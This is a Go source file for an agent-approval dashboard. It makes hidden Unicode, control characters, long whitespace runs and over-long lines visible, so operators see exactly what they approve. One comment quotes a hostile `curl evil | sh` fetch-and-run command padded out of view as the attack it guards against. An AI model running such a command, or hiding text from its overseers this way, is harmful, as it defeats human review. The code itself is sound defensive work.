package dashboard

import (
	"fmt"
	"strings"
	"unicode"
	"unicode/utf16"

	"github.com/charmbracelet/x/ansi"
)

// What the operator reads must be what approving does (issue 15, hole 5).
// Agent text reaches the screen only through clean (every character that
// draws nothing, moves the cursor or reorders text becomes a visible
// marker) and wrapRows (a long line wraps with a mark; nothing is cut
// silently at the terminal's edge).

// blankRun is the longest run of spaces shown as spaces: a longer one
// would push the rest of a line (`RUN apt-get install -y jq` ... `; curl
// evil | sh`) out of sight, so it is shown as a count.
const blankRun = 16

// contMark starts every row that continues a wrapped line.
const contMark = "↪ "

// invisible lists letters that draw nothing although Unicode calls them
// graphic (Hangul fillers, the braille blank).
var invisible = map[rune]bool{0x115f: true, 0x1160: true, 0x3164: true, 0xffa0: true, 0x2800: true}

// hidden reports whether r must be shown as a marker: C0 and C1 controls,
// DEL, format characters (bidi overrides and isolates, zero-width space,
// joiners, word joiner, BOM, soft hyphen, tag characters), line and
// paragraph separators, every non-ASCII space, private-use, surrogate and
// unassigned code points.
func hidden(r rune) bool {
	switch {
	case r == '\n':
		return false
	case r < 0x20 || r == 0x7f:
		return true
	case r < 0x7f:
		return false
	case r >= 0x80 && r < 0xa0:
		return true
	case invisible[r], unicode.IsSpace(r), unicode.Is(unicode.Cf, r), !unicode.IsGraphic(r):
		return true
	}
	return false
}

// marker is how a hidden character is drawn: control pictures for C0
// (␛ for ESC, ␉ for a tab, ␍ for a carriage return) and DEL, ‹U+XXXX›
// for the rest.
func marker(r rune) string {
	switch {
	case r < 0x20:
		return string(rune(0x2400 + r))
	case r == 0x7f:
		return "␡"
	}
	return fmt.Sprintf("‹U+%04X›", r)
}

// clean makes agent text visible: hidden characters become markers, runs
// of more than blankRun spaces become ‹N spaces›, newlines stay.
func clean(s string) string {
	var b strings.Builder
	spaces := 0
	flush := func() {
		if spaces > blankRun {
			fmt.Fprintf(&b, "‹%d spaces›", spaces)
		} else {
			b.WriteString(strings.Repeat(" ", spaces))
		}
		spaces = 0
	}
	for _, r := range s {
		if r == ' ' {
			spaces++
			continue
		}
		flush()
		switch {
		case r == unicode.ReplacementChar:
			// Invalid UTF-8 decodes to U+FFFD: shown as the marker, so a
			// raw byte never reaches the terminal.
			b.WriteString("‹bad UTF-8›")
		case hidden(r):
			b.WriteString(marker(r))
		default:
			b.WriteRune(r)
		}
	}
	flush()
	return b.String()
}

// wrapRows cleans s and splits it into screen rows no wider than width:
// each line of s, wrapped, every continuation row starting with contMark.
func wrapRows(s string, width int) []string {
	width = max(width, 20)
	var rows []string
	for _, line := range strings.Split(clean(s), "\n") {
		if ansi.StringWidth(line) <= width {
			rows = append(rows, line)
			continue
		}
		first := ansi.Hardwrap(line, width, true)
		parts := strings.SplitN(first, "\n", 2)
		rows = append(rows, parts[0])
		rest := ""
		if len(parts) == 2 {
			rest = strings.ReplaceAll(parts[1], "\n", "")
		}
		for _, r := range strings.Split(ansi.Hardwrap(rest, width-ansi.StringWidth(contMark), true), "\n") {
			rows = append(rows, contMark+r)
		}
	}
	return rows
}

// jsonSafe rewrites a JSON document so that no character the terminal
// could act on or hide is raw in it: C1 controls (which some terminals
// take as CSI and OSC), bidi controls, zero-width and other hidden
// characters become \uXXXX escapes (surrogate pairs above U+FFFF). They
// can only occur inside strings, where the escape means the same text.
func jsonSafe(doc []byte) []byte {
	var b strings.Builder
	for _, r := range string(doc) {
		if r < 0x7f || r == unicode.ReplacementChar || !hidden(r) {
			b.WriteRune(r)
			continue
		}
		if r > 0xffff {
			r1, r2 := utf16.EncodeRune(r)
			fmt.Fprintf(&b, `\u%04x\u%04x`, r1, r2)
			continue
		}
		fmt.Fprintf(&b, `\u%04x`, r)
	}
	return []byte(b.String())
}
